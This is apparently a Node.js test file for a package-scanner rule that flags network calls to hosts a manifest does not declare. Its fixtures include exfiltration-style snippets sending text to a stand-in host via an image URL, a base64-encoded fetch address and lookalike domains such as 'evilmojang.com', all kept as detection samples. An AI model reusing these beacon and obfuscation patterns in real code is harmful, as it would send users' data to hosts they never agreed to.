import assert from 'node:assert/strict';
import { test } from 'node:test';
import { said } from '#test/support/scan-package.js';
import { rule } from './undeclared-host.rule.js';

const promise = { original: { permissions: [{ network: { hosts: ['api.example.net', 'https://*.mojang.com/'] } }] } };

test('bad: an address that the manifest does not name', () => {
  assert.deepEqual(said(rule, { 'a.js': 'fetch("https://other.test/x")' }, promise), ['high a.js:1']);
  assert.deepEqual(said(rule, { 'a.js': 'const h = "other.test";\nfetch(`https://${h}/x`)' }, promise), ['high a.js:2']);
  assert.deepEqual(said(rule, { 'a.js': 'picture.src = "//other.test/x.gif?" + text' }, promise), ['high a.js:1'], 'an address with the scheme of its page');
  assert.deepEqual(said(rule, { 'a.js': 'fetch(atob("aHR0cHM6Ly9vdGhlci50ZXN0L3g="))' }, promise), ['high a.js:1'], 'an address in base64');
  assert.deepEqual(said(rule, { 'a.py': 'u = "https://" + "other.test"' }, promise), ['high a.py:1']);
  assert.deepEqual(said(rule, { 'a.js': 'fetch("https://api.example.net.other.test/x"); connect({ host: "evilmojang.com" })' }, promise), ['high a.js:1', 'high a.js:1']);
});

test('bad: however the list is called', () => {
  for (const name of ['hosts', 'allowedHosts', 'allowed_hosts', 'allowlist', 'network_allowlist', 'domains', 'host_permissions']) assert.deepEqual(said(rule, { 'a.js': 'fetch("https://other.test/x")' }, { original: { version: { [name]: ['api.test'] } } }), ['high a.js:1'], name);
  for (const name of ['allow', 'list', 'keywords', 'network_capability']) assert.deepEqual(said(rule, { 'a.js': 'fetch("https://other.test/x")' }, { original: { version: { [name]: ['api.test'] } } }), [], name);
});

test('an address that people are told is a hint, where each request says which server it asks', () => {
  const links = 'const LINKS = ["https://forum.test/new"]; reply(LINKS.join());';
  assert.deepEqual(said(rule, { 'a.js': `fetch("https://api.example.net/x"); ${links}` }, promise), ['low a.js:1']);
  for (const request of ['fetch(url)', 'fetch("https://api.example.net/x"); fetch(url)', 'new Image().src = "https://forum.test/p.gif"; fetch("https://api.example.net/x")', 'fetch(LINKS[0]); fetch("https://api.example.net/x")']) assert.ok(said(rule, { 'a.js': `${links} ${request}` }, promise).some((each) => each.startsWith('high')), request);
});

test('good: what it names, and what is no address', () => {
  assert.deepEqual(said(rule, { 'a.js': 'fetch("https://api.example.net/x"); fetch(`https://session.mojang.com/${x}`)' }, promise), []);
  assert.deepEqual(said(rule, { 'a.js': '// https://other.test/x\nconst ns = "http://www.w3.org/2000/svg"; fetch(`https://${host}/x`)' }, promise), []);
  assert.deepEqual(said(rule, { 'a.js': 'const marks = ["//# sourceMappingURL=a.js.map", "// see other.test", "//item[@id]/name", "//session.mojang.com/x"]' }, promise), []);
  assert.deepEqual(said(rule, { 'a.js': 'fetch("https://other.test/x")' }), [], 'a manifest without a list promises nothing');
});
